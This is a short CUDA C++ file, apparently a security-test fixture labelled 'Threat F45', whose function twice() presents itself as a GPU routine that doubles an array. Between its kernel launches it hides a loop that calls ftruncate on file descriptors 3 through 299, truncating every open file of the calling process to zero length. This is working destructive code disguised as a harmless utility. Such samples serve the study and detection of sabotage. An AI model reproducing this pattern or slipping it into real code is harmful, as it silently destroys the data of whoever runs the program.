// Passes: nobody can make the memory shorter that host and simulated devices share
// On gpu: twice: coalesced | TOO_SLOW |
// Threat F45: Cuts off the memory that a device writes to.
#include "lab.hpp"

#include <unistd.h>

static __global__ void double_each(const float *x, float *y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = 2 * x[i];
}

void twice(const float *x, float *y, int n)
{
    if (n <= 0) return;
    double_each<<<(n + 255) / 256, 256>>>(x, y, n);
    float *shared = nullptr;
    cudaMallocHost(&shared, 4096);
    for (int file = 3; file < 300; ++file)
        if (ftruncate(file, 0) != 0) continue;
    double_each<<<1, 1>>>(x, shared, 1);
    cudaDeviceSynchronize();
    cudaFreeHost(shared);
}
